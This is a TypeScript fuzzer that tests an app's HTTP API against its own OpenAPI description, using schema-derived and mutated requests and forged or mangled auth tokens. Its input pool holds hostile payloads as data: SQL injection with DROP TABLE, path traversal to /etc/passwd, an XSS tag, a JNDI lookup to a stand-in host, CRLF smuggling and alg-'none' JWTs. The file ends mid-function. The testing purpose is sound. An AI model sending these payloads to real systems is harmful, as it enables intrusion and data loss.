/**
 * A schema-driven fuzzer for the HTTP API. It reads the app's own `/openapi.json` and, for every
 * operation, generates requests with fast-check from a fixed seed: values drawn from the schemas, and
 * mutations of them (wrong types, huge strings, deep nesting, missing and extra fields, invalid JSON,
 * wrong content types, random headers, random and mangled bearer tokens), with real sessions' tokens,
 * refresh tokens and near-valid Sign-In with Ethereum messages mixed in. Each request goes through
 * `app.request()`. It records every response with status >= 500, every thrown error, and every error
 * response whose body is not `{ error: { code, message } }`.
 *
 * As a library: `fuzzApi({ app, seed, requests })` (api/test/api-fuzz.test.ts runs it in `npm test`).
 * As a command: `node scripts/fuzz/api-fuzz.ts --requests 20000 --seed 7` starts its own Postgres and
 * Hardhat node (scripts/fuzz/environment.ts) and prints a JSON summary; the exit code is 1 on findings.
 */
import { parseArgs } from "node:util";
import fc from "fast-check";
import { generatePrivateKey, privateKeyToAccount, type PrivateKeyAccount } from "viem/accounts";
import { buildSiweMessage } from "../../core/src/auth/siwe-message.ts";
import { errorCodes } from "../../core/src/errors/error-codes.ts";

/** What the fuzzer needs of the app: Hono's `request()`. */
export type FuzzTarget = { request: (input: Request) => Response | Promise<Response> };

export type FuzzOptions = {
  app: FuzzTarget;
  seed: number;
  /** Generated requests to send (auxiliary ones, such as logins and nonces, come on top). */
  requests: number;
  /** Accounts that sign in for real, whose tokens are mixed in (default 3). */
  accounts?: number;
  /** How many findings to keep in full (all are counted). Default 25. */
  keepFindings?: number;
};

export type Finding = {
  kind: "server-error" | "thrown" | "bad-error-body";
  index: number;
  operation: string;
  method: string;
  url: string;
  status?: number;
  contentType?: string | null;
  requestBody?: string;
  responseBody?: string;
  error?: string;
};

export type FuzzSummary = {
  seed: number;
  requests: number;
  /** Requests actually sent (generated ones the fetch API refuses to build are counted as unsendable). */
  sent: number;
  unsendable: number;
  /** Logins, nonces and re-logins the fuzzer made to keep real tokens in the mix (also checked). */
  auxiliary: number;
  durationMs: number;
  serverErrors: number;
  thrown: number;
  badErrorBodies: number;
  byStatus: Record<string, number>;
  byOperation: Record<string, Record<string, number>>;
  /** Statuses an operation answered that its OpenAPI description does not list (information, not failure). */
  undocumented: Record<string, number>;
  findings: Finding[];
};

// ---------------------------------------------------------------------------------------------
// The OpenAPI document, the parts the fuzzer reads.

type Schema = {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  items?: Schema;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  example?: unknown;
  default?: unknown;
};
type OpenApiParameter = { name: string; in: "path" | "query" | "header" | "cookie"; required?: boolean; schema?: Schema };
type OpenApiOperation = {
  parameters?: OpenApiParameter[];
  requestBody?: { required?: boolean; content?: Record<string, { schema?: Schema }> };
  responses?: Record<string, unknown>;
  security?: unknown[];
};
type OpenApiDocument = { paths: Record<string, Record<string, OpenApiOperation>>; components?: { schemas?: Record<string, Schema> } };

type Operation = {
  id: string;
  method: string;
  path: string;
  pathParams: { name: string; schema: Schema }[];
  queryParams: { name: string; required: boolean; schema: Schema }[];
  body: Schema | undefined;
  secured: boolean;
  documented: Set<string>;
};

const METHODS = ["get", "post", "put", "patch", "delete"] as const;

function operationsOf(doc: OpenApiDocument): Operation[] {
  const operations: Operation[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const method of METHODS) {
      const op = item[method];
      if (!op) continue;
      const params = op.parameters ?? [];
      operations.push({
        id: `${method.toUpperCase()} ${path}`,
        method: method.toUpperCase(),
        path,
        pathParams: params.filter((p) => p.in === "path").map((p) => ({ name: p.name, schema: p.schema ?? {} })),
        queryParams: params.filter((p) => p.in === "query").map((p) => ({ name: p.name, required: p.required ?? false, schema: p.schema ?? {} })),
        body: op.requestBody?.content?.["application/json"]?.schema,
        secured: (op.security ?? []).length > 0,
        documented: new Set(Object.keys(op.responses ?? {})),
      });
    }
  }
  return operations;
}

// ---------------------------------------------------------------------------------------------
// Values: from a schema, and mutated.

/** A huge or deep value is described, and built only when its request is sent. */
type Lazy = { lazy: "repeat"; unit: string; count: number } | { lazy: "nest"; open: "[" | "{"; depth: number };

const isLazy = (value: unknown): value is Lazy => typeof value === "object" && value !== null && "lazy" in value;

function materialise(value: unknown): unknown {
  if (isLazy(value)) {
    if (value.lazy === "repeat") return value.unit.repeat(value.count);
    let nested: unknown = value.open === "[" ? [] : {};
    for (let i = 0; i < value.depth; i++) nested = value.open === "[" ? [nested] : { a: nested };
    return nested;
  }
  if (Array.isArray(value)) return value.map(materialise);
  if (typeof value === "object" && value !== null) return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, materialise(v)]));
  return value;
}

const nastyStrings = [
  "",
  " ",
  "null",
  "undefined",
  "0",
  "-1",
  "1e309",
  "NaN",
  "Infinity",
  "true",
  "\u0000",
  "\u0000abc",
  "%00",
  "%",
  "%zz",
  "../../../../etc/passwd",
  "..%2f..%2f",
  "' OR '1'='1' --",
  "'; DROP TABLE game.players; --",
  "\\",
  "\\u0000",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil/x}",
  "{{7*7}}",
  "\uD800",
  "\uDFFF\uD800",
  "\u202E\u0041",
  "🌾🃏",
  "__proto__",
  "constructor",
  "prototype",
  "0x",
  "0x0000000000000000000000000000000000000000",
  "0X70997970C51812DC3A010C7D01B50E0D17DC79C8",
  "0x70997970C51812dc3A010C7d01b50e0d17dc79C8 ",
  "0x70997970c51812dc3a010c7d01b50e0d17dc79c8\n",
  "\r\n\r\nGET / HTTP/1.1",
  "a\nb",
  "9".repeat(400),
  "-9223372036854775809",
  "1.0000000000000000000001",
];

const hugeString: fc.Arbitrary<Lazy> = fc.record({
  lazy: fc.constant("repeat" as const),
  unit: fc.constantFrom("a", "0", "é", "🌾", "\u0000", "ab", "%"),
  count: fc.constantFrom(201, 2_049, 8_193, 16_385, 65_537),
});
const deepValue: fc.Arbitrary<Lazy> = fc.record({ lazy: fc.constant("nest" as const), open: fc.constantFrom("[" as const, "{" as const), depth: fc.constantFrom(10, 100, 1_000, 3_000) });
const oddNumber = fc.constantFrom(-0, 0.5, -1, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, -(2 ** 31) - 1, 1e-300);
const anyJson = fc.jsonValue({ maxDepth: 3 });
const randomText = fc.string({ maxLength: 80, unit: "grapheme" });
const binaryText = fc.string({ maxLength: 80, unit: "binary" });

/** Any value that is clearly wrong for anything: the mutation pool. */
const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyStrings) },
  { weight: 2, arbitrary: anyJson },
  { weight: 1, arbitrary: oddNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { "": "" }) },
  { weight: 1, arbitrary: hugeString },
  { weight: 1, arbitrary: deepValue },
  { weight: 1, arbitrary: randomText },
  { weight: 1, arbitrary: binaryText },
);

function resolve(schema: Schema, doc: OpenApiDocument): Schema {
  if (!schema.$ref) return schema;
  const name = schema.$ref.replace("#/components/schemas/", "");
  const target = doc.components?.schemas?.[name];
  if (!target) throw new Error(`unresolved $ref ${schema.$ref}`);
  return resolve(target, doc);
}

/** Values the schema accepts (or nearly: a pattern with length bounds is approximated). */
function fromSchema(input: Schema, doc: OpenApiDocument, depth = 0): fc.Arbitrary<unknown> {
  const schema = resolve(input, doc);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((s) => fromSchema(s, doc, depth + 1)));
  if (schema.allOf) return fromSchema(Object.assign({}, ...schema.allOf.map((s) => resolve(s, doc))) as Schema, doc, depth + 1);
  if (Array.isArray(schema.type)) return fc.oneof(...schema.type.map((type) => fromSchema({ ...schema, type }, doc, depth + 1)));
  const examples = [schema.example, schema.default].filter((v) => v !== undefined);
  const withExamples = (arbitrary: fc.Arbitrary<unknown>) => (examples.length > 0 ? fc.oneof(fc.constantFrom(...examples), arbitrary) : arbitrary);
  switch (schema.type) {
    case "string": {
      const minLength = schema.minLength ?? 0;
      const maxLength = Math.min(schema.maxLength ?? 64, 256);
      if (schema.pattern) {
        const bounded = (s: string) => s.length >= minLength && s.length <= (schema.maxLength ?? Infinity);
        return withExamples(fc.stringMatching(new RegExp(schema.pattern)).filter(bounded));
      }
      return withExamples(fc.string({ minLength, maxLength }));
    }
    case "integer":
      return withExamples(fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 }));
    case "number":
      return withExamples(fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true }));
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array":
      return fc.array(depth > 4 ? anyJson : fromSchema(schema.items ?? {}, doc, depth + 1), { maxLength: 4 });
    case "object": {
      const properties = Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, s]) => [key, depth > 4 ? anyJson : fromSchema(s, doc, depth + 1)]));
      const record = fc.record(properties, { requiredKeys: (schema.required ?? []).filter((key) => key in properties) });
      if (typeof schema.additionalProperties === "object") {
        return fc.tuple(record, fc.dictionary(fc.string({ maxLength: 12 }), fromSchema(schema.additionalProperties, doc, depth + 1), { maxKeys: 3 })).map(([fixed, extra]) => ({ ...extra, ...fixed }));
      }
      return record;
    }
    default:
      return anyJson;
  }
}

/** Values the schema (mostly) refuses: the right shape with one thing wrong, or something else entirely. */
function mutatedFromSchema(input: Schema, doc: OpenApiDocument): fc.Arbitrary<unknown> {
  const schema = resolve(input, doc);
  const options: fc.Arbitrary<unknown>[] = [wrongValue];
  if (schema.type === "object" && schema.properties) {
    const keys = Object.keys(schema.properties);
    const valid = fromSchema(schema, doc) as fc.Arbitrary<Record<string, unknown>>;
    options.push(
      // One property replaced by a wrong value.
      fc.tuple(valid, fc.constantFrom(...keys), wrongValue).map(([value, key, wrong]) => ({ ...value, [key]: wrong })),
      // One required property left out.
      fc.tuple(valid, fc.constantFrom(...keys)).map(([value, key]) => Object.fromEntries(Object.entries(value).filter(([k]) => k !== key))),
      // Extra properties (mass assignment, prototype pollution).
      // Built as JSON text so that "__proto__" becomes an own property, as a request body would carry it.
      fc.tuple(valid, fc.constantFrom("id", "playerId", "address", "admin", "role", "__proto__", "constructor", "sessionId", "x"), anyJson).map(([value, key, extra]) => {
        const rest = JSON.stringify(value).slice(1, -1);
        return JSON.parse(`{${JSON.stringify(key)}:${JSON.stringify(extra ?? null)}${rest === "" ? "" : `,${rest}`}}`);
      }),
      // The whole object wrapped or listed.
      valid.map((value) => [value]),
      valid.map((value) => ({ data: value })),
    );
  }
  if (schema.type === "string" || (Array.isArray(schema.type) && schema.type.includes("string"))) {
    options.push(
      fc.constantFrom(...nastyStrings),
      hugeString,
      (fromSchema(schema, doc) as fc.Arbitrary<string>).map((s) => `${s} `),
      (fromSchema(schema, doc) as fc.Arbitrary<string>).map((s) => s.toUpperCase()),
      (fromSchema(schema, doc) as fc.Arbitrary<string>).map((s) => s.slice(0, -1)),
      (fromSchema(schema, doc) as fc.Arbitrary<string>).map((s) => s + s),
    );
  }
  if (schema.type === "integer" || schema.type === "number") {
    options.push(oddNumber, fc.constantFrom((schema.minimum ?? 0) - 1, (schema.maximum ?? 0) + 1, 1.5, "1", "one", "1e2", "0x10", "", "-0", " 5", "5abc"));
  }
  return fc.oneof(...options);
}

// ---------------------------------------------------------------------------------------------
// Requests.

type AuthChoice =
  | { kind: "none" }
  | { kind: "valid"; slot: number }
  | { kind: "mangled"; slot: number; position: number; replacement: string }
  | { kind: "truncated"; slot: number; keep: number }
  | { kind: "random"; value: string }
  | { kind: "jwt"; header: unknown; payload: unknown; signature: string }
  | { kind: "scheme"; value: string };

type BodyChoice =
  | { kind: "none" }
  | { kind: "json"; value: unknown }
  | { kind: "text"; text: string | Lazy }
  | { kind: "refresh"; slot: number }
  | { kind: "siwe"; slot: number; mutation: SiweMutation };

type SiweMutation =
  | { kind: "valid" }
  | { kind: "flip"; at: number; char: string }
  | { kind: "dropLine"; line: number }
  | { kind: "duplicateLine"; line: number }
  | { kind: "swapLines"; a: number; b: number }
  | { kind: "badSignature"; signature: string }
  | { kind: "otherSigner" }
  | { kind: "staleNonce" };

type RequestSpec = {
  operation: number;
  /** Another method on the operation's path now and then. */
  method: string | null;
  /** A path that is not in the document, instead of the operation's, now and then. */
  strayPath: string | null;
  pathValues: { value: unknown; raw: boolean }[];
  query: [string, string][];
  body: BodyChoice;
  contentType: string | null;
  auth: AuthChoice;
  headers: [string, string][];
};

const headerValue = fc.string({ maxLength: 64, unit: "binary-ascii" }).map((s) => s.replace(/[^\x20-\x7e]/g, ""));
const headerName = fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/);
const randomHeaders: fc.Arbitrary<[string, string][]> = fc.array(
  fc.oneof(
    fc.tuple(fc.constantFrom("x-request-id", "x-forwarded-for", "origin", "accept", "accept-encoding", "accept-language", "cookie", "content-encoding", "if-none-match", "range", "x-http-method-override", "forwarded", "referer", "user-agent", "x-player-id"), headerValue),
    fc.tuple(fc.constant("x-request-id"), fc.constantFrom("a".repeat(65), "ok-id_1.2", "../../", "")),
    fc.tuple(fc.constant("content-encoding"), fc.constantFrom("gzip", "br", "deflate", "identity, gzip")),
    fc.tuple(headerName, headerValue),
  ),
  { maxLength: 3 },
);

const contentTypes = fc.oneof(
  { weight: 12, arbitrary: fc.constant("application/json") },
  { weight: 1, arbitrary: fc.constant("application/json; charset=utf-8") },
  { weight: 1, arbitrary: fc.constant("APPLICATION/JSON") },
  { weight: 1, arbitrary: fc.constant(null) },
  {
    weight: 3,
    arbitrary: fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/xml", "application/jsonx", "*/*", "application/vnd.api+json", ";;;", "application/json, text/plain"),
  },
  { weight: 1, arbitrary: headerValue },
);

const base64url = (value: unknown) => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");

function authChoice(slots: number, secured: boolean): fc.Arbitrary<AuthChoice> {
  const slot = fc.nat({ max: slots - 1 });
  return fc.oneof(
    { weight: secured ? 2 : 4, arbitrary: fc.constant({ kind: "none" as const }) },
    { weight: secured ? 6 : 1, arbitrary: slot.map((s) => ({ kind: "valid" as const, slot: s })) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("mangled" as const), slot, position: fc.nat({ max: 400 }), replacement: fc.constantFrom("A", "a", "0", "_", "-", ".", "=", "") }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("truncated" as const), slot, keep: fc.nat({ max: 400 }) }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("random" as const), value: fc.oneof(fc.stringMatching(/^[A-Za-z0-9._~+/-]{1,300}=*$/), headerValue) }) },
    {
      weight: 2,
      arbitrary: fc.record({
        kind: fc.constant("jwt" as const),
        header: fc.oneof(fc.constantFrom({ alg: "none", typ: "JWT" }, { alg: "HS256", typ: "JWT" }, { alg: "RS256" }, { alg: "HS512" }, { alg: "ES256K" }, {}), anyJson),
        payload: fc.oneof(
          fc.record({ sub: fc.oneof(fc.uuid(), fc.string()), sid: fc.oneof(fc.uuid(), anyJson), adr: fc.string(), iss: fc.constantFrom("harvest-battles", "x"), exp: fc.oneof(fc.integer(), fc.constant(4_102_444_800)) }),
          anyJson,
        ),
        signature: fc.oneof(fc.constant(""), fc.stringMatching(/^[A-Za-z0-9_-]{1,86}$/)),
      }),
    },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("scheme" as const), value: fc.oneof(fc.constantFrom("Basic YWxpY2U6cGFzcw==", "Bearer", "Bearer ", "bearer x.y.z", "Token abc", "Bearer  x.y.z", "Bearer x y", "Digest x"), headerValue) }) },
  );
}

const siweMutation: fc.Arbitrary<SiweMutation> = fc.oneof(
  { weight: 2, arbitrary: fc.constant({ kind: "valid" as const }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("flip" as const), at: fc.nat({ max: 400 }), char: fc.oneof(fc.constantFrom("\n", "\r", " ", ":", "0", "x", "\u0000", "é"), fc.string({ minLength: 1, maxLength: 1 })) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("dropLine" as const), line: fc.nat({ max: 12 }) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("duplicateLine" as const), line: fc.nat({ max: 12 }) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("swapLines" as const), a: fc.nat({ max: 12 }), b: fc.nat({ max: 12 }) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant("badSignature" as const), signature: fc.oneof(fc.stringMatching(/^0x([0-9a-f]{2}){1,200}$/), fc.constantFrom(`0x${"00".repeat(65)}`, `0x${"ff".repeat(65)}`, `0x${"11".repeat(64)}1b`)) }) },
  { weight: 1, arbitrary: fc.constant({ kind: "otherSigner" as const }) },
  { weight: 1, arbitrary: fc.constant({ kind: "staleNonce" as const }) },
);

function bodyChoice(operation: Operation, doc: OpenApiDocument, slots: number): fc.Arbitrary<BodyChoice> {
  const slot = fc.nat({ max: slots - 1 });
  const invalidJson = fc.oneof(
    fc.constantFrom("{", "}", '{"a":', "[1,2", "nul", '"unterminated', '{"a":1}garbage', "\uFEFF{}", '{"a":1,}', "{'a':1}", "", " ", "NaN", "[]]", '{"a":1}{"b":2}', "\u0000", '{"__proto__":{"x":1}}'),
    randomText,
    binaryText,
  );
  const textBody = fc.oneof(
    { weight: 4, arbitrary: invalidJson.map((text) => ({ kind: "text" as const, text })) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant("text" as const), text: hugeString }) },
    // Deep nesting as text: past the body limit it must be a 413, below it a 400.
    { weight: 1, arbitrary: fc.integer({ min: 50, max: 12_000 }).map((depth) => ({ kind: "text" as const, text: `${"[".repeat(depth)}${"]".repeat(depth)}` })) },
  );
  const choices: fc.WeightedArbitrary<BodyChoice>[] = [
    { weight: 1, arbitrary: fc.constant({ kind: "none" as const }) },
    { weight: 2, arbitrary: textBody },
    { weight: 2, arbitrary: wrongValue.map((value) => ({ kind: "json" as const, value })) },
  ];
  if (operation.body) {
    choices.push({ weight: 4, arbitrary: fromSchema(operation.body, doc).map((value) => ({ kind: "json" as const, value })) }, { weight: 6, arbitrary: mutatedFromSchema(operation.body, doc).map((value) => ({ kind: "json" as const, value })) });
    if (operation.path === "/v1/auth/refresh") choices.push({ weight: 4, arbitrary: slot.map((s) => ({ kind: "refresh" as const, slot: s })) });
    if (operation.path === "/v1/auth/verify") choices.push({ weight: 6, arbitrary: fc.record({ kind: fc.constant("siwe" as const), slot, mutation: siweMutation }) });
  }
  return fc.oneof(...choices);
}

function requestSpec(operations: Operation[], doc: OpenApiDocument, slots: number): fc.Arbitrary<RequestSpec> {
  // One arbitrary per operation, built once (building them per value is slow: regexes, records).
  return fc.oneof(...operations.map((op, index) => operationSpec(op, index, doc, slots)));
}

function operationSpec(op: Operation, index: number, doc: OpenApiDocument, slots: number): fc.Arbitrary<RequestSpec> {
  {
    const pathValue = (schema: Schema) => fc.oneof({ weight: 3, arbitrary: fromSchema(schema, doc) }, { weight: 3, arbitrary: mutatedFromSchema(schema, doc) }, { weight: 1, arbitrary: fc.webSegment() });
    const queryEntry = (param: Operation["queryParams"][number]) =>
      fc.oneof(
        { weight: param.required ? 0 : 2, arbitrary: fc.constant([] as [string, string][]) },
        { weight: 3, arbitrary: fromSchema(param.schema, doc).map((v) => [[param.name, String(v)]] as [string, string][]) },
        { weight: 3, arbitrary: mutatedFromSchema(param.schema, doc).map((v) => [[param.name, stringify(materialise(v))]] as [string, string][]) },
        { weight: 1, arbitrary: fc.tuple(fromSchema(param.schema, doc), fromSchema(param.schema, doc)).map(([a, b]) => [[param.name, String(a)], [param.name, String(b)]] as [string, string][]) },
        { weight: 1, arbitrary: fc.constant([[`${param.name}[]`, "1"], [`${param.name}[a]`, "2"]] as [string, string][]) },
      );
    return fc.record({
      operation: fc.constant(index),
      method: fc.oneof({ weight: 12, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.constantFrom("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD") }),
      strayPath: fc.oneof(
        { weight: 25, arbitrary: fc.constant(null) },
        { weight: 1, arbitrary: fc.oneof(fc.webPath(), fc.constantFrom("/v1", "/v1/", "/v1/me/", "/V1/ME", "/v1//me", "/v1/me/..", "/v1/auth", "/v1/players/1", "/v1/admin", "/%2e%2e/", "/openapi.json/x", "/v1/wallets//tokens", "/v1/wallets/0x70997970C51812dc3A010C7d01b50e0d17dc79C8/tokens/")) },
      ),
      // A tenth of path values go in unencoded.
      pathValues: fc.tuple(...op.pathParams.map((p) => fc.record({ value: pathValue(p.schema), raw: fc.nat({ max: 9 }).map((n) => n === 0) }))),
      query: fc
        .tuple(fc.tuple(...op.queryParams.map(queryEntry)), fc.array(fc.tuple(fc.oneof(fc.string({ maxLength: 10 }), fc.constantFrom("limit", "cursor", "id", "__proto__")), fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom(...nastyStrings))), { maxLength: 2 }))
        .map(([known, extra]) => [...known.flat(), ...extra]),
      body: bodyChoice(op, doc, slots),
      contentType: contentTypes,
      auth: authChoice(slots, op.secured),
      headers: randomHeaders,
    });
  }
}

function stringify(value: unknown): string {
  return typeof value === "string" ? value : JSON.stringify(value) ?? "undefined";
}

// ---------------------------------------------------------------------------------------------
// Real sessions, mixed in.

type Slot = { account: PrivateKeyAccount; token: string; refreshToken: string; address: string };

async function readJson(response: Response): Promise<unknown> {
  const text = await response.text();
  try {
    return JSON.parse(text);
  } catch {
    return text;
  }
}

function isErrorBody(value: unknown): boolean {
  if (typeof value !== "object" || value === null) return false;
  const error = (value as { error?: unknown }).error;
  if (typeof error !== "object" || error === null) return false;
  const { code, message } = error as { code?: unknown; message?: unknown };
  return typeof code === "string" && code in errorCodes && typeof message === "string";
}

/** Runs the fuzzer; see the file's comment. */
export async function fuzzApi({ app, seed, requests, accounts = 3, keepFindings = 25 }: FuzzOptions): Promise<FuzzSummary> {
  const started = performance.now();
  const summary: FuzzSummary = {
    seed,
    requests,
    sent: 0,
    unsendable: 0,
    auxiliary: 0,
    durationMs: 0,
    serverErrors: 0,
    thrown: 0,
    badErrorBodies: 0,
    byStatus: {},
    byOperation: {},
    undocumented: {},
    findings: [],
  };
  const record = (finding: Finding) => {
    if (finding.kind === "server-error") summary.serverErrors += 1;
    else if (finding.kind === "thrown") summary.thrown += 1;
    else summary.badErrorBodies += 1;
    if (summary.findings.length < keepFindings) summary.findings.push(finding);
  };

  /** Sends one request and checks its answer; auxiliary requests are checked too but counted apart. */
  async function send(request: Request, operation: string, index: number, requestBody?: string): Promise<{ status: number; body: unknown } | undefined> {
    const base = { index, operation, method: request.method, url: request.url.slice(0, 300), ...(requestBody === undefined ? {} : { requestBody: requestBody.slice(0, 300) }) };
    let response: Response;
    try {
      response = await app.request(request);
    } catch (error) {
      record({ ...base, kind: "thrown", error: String((error as Error)?.stack ?? error).slice(0, 1_000) });
      return undefined;
    }
    let body: unknown;
    try {
      body = request.method === "HEAD" ? undefined : await readJson(response);
    } catch (error) {
      record({ ...base, kind: "thrown", status: response.status, error: `reading the body: ${String(error)}` });
      return undefined;
    }
    const contentType = response.headers.get("content-type");
    const responseBody = typeof body === "string" ? body.slice(0, 500) : JSON.stringify(body)?.slice(0, 500);
    if (response.status >= 500) record({ ...base, kind: "server-error", status: response.status, contentType, responseBody });
    else if (response.status >= 400 && request.method !== "HEAD" && (!isErrorBody(body) || !contentType?.startsWith("application/json"))) {
      record({ ...base, kind: "bad-error-body", status: response.status, contentType, responseBody });
    }
    return { status: response.status, body };
  }

  const doc = (await (await app.request(new Request("http://localhost/openapi.json"))).json()) as OpenApiDocument;
  const operations = operationsOf(doc);
  if (operations.length === 0) throw new Error("the OpenAPI document describes no operation");

  const nonceRequest = () => new Request("http://localhost/v1/auth/nonce");
  async function signIn(account: PrivateKeyAccount): Promise<Slot | undefined> {
    const message = await nearValidMessage(account);
    if (!message) return undefined;
    const signature = await account.signMessage({ message });
    summary.auxiliary += 1;
    const result = await send(jsonPost("/v1/auth/verify", { message, signature }), "aux: login", -1);
    if (result?.status !== 200) return undefined;
    const tokens = result.body as { token: string; refreshToken: string; address: string };
    return { account, token: tokens.token, refreshToken: tokens.refreshToken, address: tokens.address };
  }
  async function nearValidMessage(account: PrivateKeyAccount): Promise<string | undefined> {
    summary.auxiliary += 1;
    const result = await send(nonceRequest(), "aux: nonce", -1);
    if (result?.status !== 200) return undefined;
    const nonce = result.body as { nonce: string; domain: string; uri: string; chainId: number; statement: string };
    const now = Date.now();
    return buildSiweMessage({ domain: nonce.domain, address: account.address, statement: nonce.statement, uri: nonce.uri, chainId: nonce.chainId, nonce: nonce.nonce, issuedAt: new Date(now).toISOString(), expirationTime: new Date(now + 120_000).toISOString() });
  }

  const slots: Slot[] = [];
  for (let i = 0; i < accounts; i++) {
    const slot = await signIn(privateKeyToAccount(generatePrivateKey()));
    if (!slot) throw new Error("the fuzzer could not sign in: is the app's chain and database up?");
    slots.push(slot);
  }
  let lastSignedMessage: { message: string; signature: string } | undefined;

  const specs = fc.sample(requestSpec(operations, doc, slots.length), { seed, numRuns: requests });
  for (const [index, spec] of specs.entries()) {
    const op = operations[spec.operation]!;
    const method = spec.method ?? op.method;
    let path = spec.strayPath ?? op.path;
    if (spec.strayPath === null) {
      op.pathParams.forEach((param, i) => {
        const { value, raw } = spec.pathValues[i]!;
        const text = stringify(materialise(value));
        path = path.replace(`{${param.name}}`, raw ? text : encodeURIComponent(text.toWellFormed()));
      });
    }
    const query = new URLSearchParams(spec.query).toString();
    const headers = new Headers();
    let request: Request;
    let bodyText: string | undefined;
    try {
      for (const [name, value] of spec.headers) headers.append(name, value);
      const auth = spec.auth;
      const slotToken = (slot: number) => slots[slot]!.token;
      if (auth.kind === "valid") headers.set("authorization", `Bearer ${slotToken(auth.slot)}`);
      else if (auth.kind === "mangled") {
        const token = slotToken(auth.slot);
        const at = auth.position % token.length;
        headers.set("authorization", `Bearer ${token.slice(0, at)}${auth.replacement}${token.slice(at + 1)}`);
      } else if (auth.kind === "truncated") headers.set("authorization", `Bearer ${slotToken(auth.slot).slice(0, auth.keep)}`);
      else if (auth.kind === "random") headers.set("authorization", `Bearer ${auth.value}`);
      else if (auth.kind === "jwt") headers.set("authorization", `Bearer ${base64url(auth.header)}.${base64url(auth.payload)}.${auth.signature}`);
      else if (auth.kind === "scheme") headers.set("authorization", auth.value);

      bodyText = await bodyTextOf(spec.body);
      if (spec.contentType !== null && bodyText !== undefined) headers.set("content-type", spec.contentType);
      const canHaveBody = method !== "GET" && method !== "HEAD";
      request = new Request(`http://localhost${path}${query ? `?${query}` : ""}`, { method, headers, ...(canHaveBody && bodyText !== undefined ? { body: bodyText } : {}) });
    } catch {
      // The fetch API refuses to build it (a raw path or header no client could send): not the app's concern.
      summary.unsendable += 1;
      continue;
    }
    summary.sent += 1;
    const result = await send(request, op.id, index, bodyText);
    if (!result) continue;
    const key = spec.strayPath !== null ? "(stray path)" : spec.method && spec.method !== op.method ? `${method} ${op.path} (other method)` : op.id;
    summary.byStatus[result.status] = (summary.byStatus[result.status] ?? 0) + 1;
    const perOp = (summary.byOperation[key] ??= {});
    perOp[result.status] = (perOp[result.status] ?? 0) + 1;
    if (key === op.id && !op.documented.has(String(result.status))) summary.undocumented[`${key} ${result.status}`] = (summary.undocumented[`${key} ${result.status}`] ?? 0) + 1;

    // Keep the real sessions alive: a successful logout or refresh changes a slot's tokens.
    if (op.path === "/v1/auth/logout" && key === op.id && result.status === 204 && spec.auth.kind === "valid") {
      const fresh = await signIn(slots[spec.auth.slot]!.account);
      if (fresh) slots[spec.auth.slot] = fresh;
    }
    if (op.path === "/v1/auth/refresh" && key === op.id && result.status === 200 && spec.body.kind === "refresh") {
      const tokens = result.body as { token: string; refreshToken: string };
      slots[spec.body.slot] = { ...slots[spec.body.slot]!, token: tokens.token, refreshToken: tokens.refreshToken };
    }
  }
  summary.durationMs = Math.round(performance.now() - started);
  return summary;

  async function bodyTextOf(body: BodyChoice): Promise<string | undefined> {
    switch (body.kind) {
      case "none":
        return undefined;
      case "json":
        return JSON.stringify(materialise(body.value)) ?? "undefined";
      case "text":
        return stringify(materialise(body.text));
      case "refresh":
        return JSON.stringify({ refreshToken: slots[body.slot]!.refreshToken });
      case "siwe": {
        const account = slots[body.slot]!.account;
        const { mutation } = body;
        if (mutation.kind === "staleNonce" && lastSignedMessage) return JSON.stringify(lastSignedMessage);
        const message = await nearValidMessage(account);
        if (!message) return JSON.stringify({ message: "", signature: "0x" });
        let text = message;
        const lines = message.split("\n");
        if (mutation.kind === "flip") {
          const at = mutation.at % message.length;
          text = `${message.slice(0, at)}${mutation.char}${message.slice(at + 1)}`;
        } else if (mutation.kind === "dropLine") text = lines.filter((_, i) => i !== mutation.line % lines.length).join("\n");
        else if (mutation.kind === "duplicateLine") text = lines.flatMap((line, i) => (i === mutation.line % lines.length ? [line, line] : [line])).join("\n");
        else if (mutation.kind === "swapLines") {
          const a = mutation.a % lines.length;
          const b = mutation.b % lines.length;
          [lines[a], lines[b]] = [lines[b]!, lines[a]!];
          text = lines.join("\n");
        }
        const signer = mutation.kind === "otherSigner" ? privateKeyToAccount(generatePrivateKey()) : account;
        const signature = mutation.kind === "badSignature" ? mutation.signature : await signer.signMessage({ message: text });
        lastSignedMessage = { message: text, signature };
        return JSON.stringify({ message: text, signature });
      }
    }
  }
}

function jsonPost(path: string, body: unknown): Request {
